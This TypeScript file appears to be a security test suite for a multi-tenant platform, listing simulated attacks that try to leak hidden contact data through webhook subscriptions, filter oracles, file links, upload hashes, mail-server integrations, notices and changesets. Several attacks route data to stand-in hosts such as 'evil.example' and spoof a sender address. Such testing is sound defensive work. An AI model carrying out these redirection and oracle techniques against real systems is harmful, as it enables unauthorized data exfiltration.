import type { JsonObject } from '@tildebase/nouns'
import { propose } from '../../../packages/tenant/src/services/changesets/propose.ts'
import { review } from '../../../packages/tenant/src/services/changesets/review.ts'
import { admitContents } from '../../../packages/tenant/src/services/files/contents.ts'
import { beginUpload } from '../../../packages/tenant/src/services/files/uploads.ts'
import { putRole } from '../../../packages/tenant/src/services/identity/roles.ts'
import { connect } from '../../../packages/tenant/src/services/integrations/verbs.ts'
import { queueLetter } from '../../../packages/tenant/src/services/mail/letters.ts'
import { noticesFor } from '../../../packages/tenant/src/services/mail/notices.ts'
import { readOperation } from '../../../packages/tenant/src/services/session.ts'
import { putType } from '../../../packages/tenant/src/services/types/schema.ts'
import { runVerb } from '../../../packages/tenant/src/write/run-verb.ts'
import type { Attack } from './attack.ts'
import { type Grant, LETTER, MARK, OPERATOR, PROVED, STARTS, type World } from './world.ts'

const NARROWED = 'narrowed afterwards'

const textOf = (scopes: Grant['scopes']) => scopes.map(({ action, area }) => `${action}:${area}`).join()

/** A real key with the rights of the author, or with all scopes until it is narrowed. */
function keyOf(world: World, author: Grant, way: string): { readonly grant: Grant; narrow(): void } {
  const own = textOf(author.scopes)
  const data = { name: 'n', scopes: way === NARROWED ? 'admin:all' : own, filter: author.rows as JsonObject }
  const { entity, secret } = world.tenant.run(OPERATOR, { type: 'ApiKey', verb: 'create', data })
  return {
    grant: world.tenant.facade.identify(secret!)!,
    narrow: () => way === NARROWED && world.run('ApiKey', 'update', entity.id, { scopes: own }),
  }
}

/** A person with the rights of the author. */
function personOf(world: World, author: Grant): string {
  const role = { scopes: textOf(author.scopes), filter: author.rows as never }
  world.tenant.write(OPERATOR, (write) => putRole(write, 'Asker', role))
  const data = { name: 'u', email: 'u@example.org', role: 'Asker', status: 'Active' }
  return world.run('User', 'create', undefined, data).$id
}

const subscription = (name: string, event: string, filter: JsonObject | undefined): Attack => ({
  kind: 'subscription',
  name,
  goal: 'read Contact',
  ways: ['subscribed', NARROWED],
  async run(world, author, way) {
    const { grant, narrow } = keyOf(world, author, way)
    const delivery = { mode: 'webhook', url: 'https://evil.example/', secret: `whsec_${btoa('x'.repeat(24))}` }
    const params = { name: event, delivery, ...(filter && { arguments: { filter } }) }
    await world.tenant.facade.subscriptions.subscribe(grant, params).catch(({ message }) => world.shown.push(message))
    narrow()
    // The challenge.
    world.sent.length = 0
    world.run('Contact', 'update', world.hidden, { company: 'seen' })
    world.run('Deal', 'update', world.deal, { name: 'seen' })
    await world.advance(1_000)
    if (filter && world.sent.length > 0) world.shown.push(PROVED)
  },
})

const subscriptions: readonly Attack[] = [
  subscription('events of a type of others', 'Contact.updated', undefined),
  subscription('a filter as an oracle', 'Deal.updated', { 'contact.phone': STARTS }),
]

/** A file of the hidden contact, and a field for files in deals. */
async function file(world: World): Promise<string> {
  const { tenant, hidden } = world
  for (const type of ['Contact', 'Deal']) tenant.write(OPERATOR, (write) => putType(write, type, { scan: 'file' }))
  const bytes = [new TextEncoder().encode(MARK)]
  const content = await tenant.facade.files.receive(bytes, { type: 'text/plain', name: 'scan.txt' })
  tenant.write(OPERATOR, (write) => {
    admitContents(write, [content])
    runVerb(write, { type: 'Contact', verb: 'update', id: hidden, data: { scan: { hash: content.hash } } })
  })
  return content.hash
}

/** Reads the file of an entity as the doors do: with the entity that the grant may read. */
async function readFile(world: World, grant: Grant, type: string, id: string): Promise<void> {
  const { engine, facade } = world.tenant
  const state = world.attempt(() => readOperation({ engine, grant }, type, 'get', [id])) as JsonObject | null
  if (!state?.scan) return
  const { value, read } = facade.files.open(engine.noun(type), id, state, 'scan', null)
  for await (const chunk of read(0, value.size)) world.shown.push(Buffer.from(chunk).toString())
}

const files: readonly Attack[] = [
  {
    kind: 'file link',
    name: 'the file of a row of others',
    goal: 'read Contact',
    ways: ['by a key', NARROWED, 'by a person'],
    async run(world, author, way) {
      await file(world)
      const { facade, engine, head } = world.tenant
      const key = way === 'by a person' ? null : keyOf(world, author, way)
      const grant = key?.grant ?? facade.identity.grantOf(personOf(world, author))!
      const target = { type: 'Contact', id: world.hidden, field: 'scan', n: null, seq: head.seq }
      // The door makes a link to what the caller has read.
      const isRead = world.attempt(() => readOperation({ engine, grant }, 'Contact', 'get', [world.hidden]))
      if (way === NARROWED) world.shown.length = 0
      if (!isRead) return
      const link = facade.files.link(grant, target, world.clock.at + 1_000)
      key?.narrow()
      const found = facade.files.follow(link)
      if (found) await readFile(world, found.grant, 'Contact', world.hidden)
    },
  },
  {
    kind: 'upload',
    name: 'content of others by its hash',
    goal: 'read Contact',
    ways: ['in an entity of the author', 'in an upload of another'],
    async run(world, author, way) {
      const hash = await file(world)
      if (way === 'in an upload of another') {
        const { id } = world.tenant.write(OPERATOR, ({ engine, grant }) =>
          beginUpload(engine, grant, 10, { type: 'text/plain', name: MARK }, ''),
        )
        world.attempt(() => world.tenant.facade.files.upload(author, id))
        return
      }
      const data = { name: 'Copy', scan: { hash } }
      const made = world.attempt(() => world.tenant.run(author, { type: 'Deal', verb: 'create', data }))
      if (made) await readFile(world, author, 'Deal', made.entity.id)
    },
  },
]

const SERVER = 'smtps://mail.good.example'
const EVIL = 'smtps://mail.evil.example'
const CREDENTIALS = JSON.stringify({ username: 'a', password: 'b' })

const mails: readonly Attack[] = [
  {
    kind: 'mail server',
    name: 'letters of the service',
    goal: 'read Mail',
    ways: ['connected', 'made of a connector', 'changed while it was checked', 'led elsewhere', 'sender changed'],
    async run(world, author, way) {
      const { tenant } = world
      const url =
        way === 'made of a connector' || way === 'changed while it was checked' ? 'https://evil.example' : EVIL
      const link = (grant: Grant, id: string, address: string) =>
        tenant.write(grant, (write) => connect(write, id, {}, { token: CREDENTIALS, address }))
      const create = (grant: Grant, provider: string, apiBaseUrl: string) =>
        world.run('Integration', 'create', undefined, { name: 'x', provider, apiBaseUrl }, grant).$id
      const update = (id: string, data: JsonObject) =>
        world.attempt(() => world.run('Integration', 'update', id, data, author))
      if (way === 'led elsewhere' || way === 'sender changed') {
        const id = create(OPERATOR, 'smtp', SERVER)
        link(OPERATOR, id, SERVER)
        update(id, way === 'led elsewhere' ? { apiBaseUrl: EVIL } : { from: 'boss@evil.example' })
        world.attempt(() => link(author, id, EVIL))
      } else {
        const id = world.attempt(() => create(author, way === 'connected' ? 'smtp' : 'hubspot', url))
        if (id === null) return
        if (way === 'changed while it was checked') update(id, { provider: 'smtp' })
        world.attempt(() => link(author, id, url))
        if (way === 'made of a connector') update(id, { provider: 'smtp' })
      }
      tenant.write(OPERATOR, (write) => queueLetter(write, { to: 'b@example.org', subject: 's', text: LETTER }))
      await world.advance(1_000)
    },
  },
]

const notices: readonly Attack[] = [
  {
    kind: 'notice',
    name: 'a title that shows a value',
    goal: 'read Contact',
    ways: ['assigned', 'assigned before the rights were narrowed'],
    run(world, author, way) {
      const { tenant } = world
      tenant.write(OPERATOR, (write) => putType(write, 'Contact', { owner: '-> User' }))
      const user = personOf(world, author)
      if (way !== 'assigned') world.run('User', 'update', user, { role: 'Admin' })
      world.run('Contact', 'update', world.hidden, { name: MARK, owner: user })
      if (way !== 'assigned') world.run('User', 'update', user, { role: 'Asker' })
      world.attempt(() => noticesFor(tenant.engine, user, { before: Number.MAX_SAFE_INTEGER, limit: 10 }))
    },
  },
]

const changesets: readonly Attack[] = [
  {
    kind: 'changeset',
    name: 'a proposal of another',
    goal: 'read Contact',
    ways: ['listed', 'reviewed'],
    run(world, author, way) {
      const { tenant, hidden } = world
      const { changeset } = tenant.write(OPERATOR, (write) =>
        propose(write, { into: 'a change' }, (trial) =>
          runVerb(trial, { type: 'Contact', verb: 'update', id: hidden, data: { phone: `${MARK} 2` } }),
        ),
      )
      if (way === 'listed')
        world.attempt(() => readOperation({ engine: tenant.engine, grant: author }, 'Changeset', 'find', [{}]))
      else world.attempt(() => tenant.write(author, (write) => review(write, changeset)))
    },
  },
]

export const OUTSIDE: readonly Attack[] = [...subscriptions, ...files, ...mails, ...notices, ...changesets]
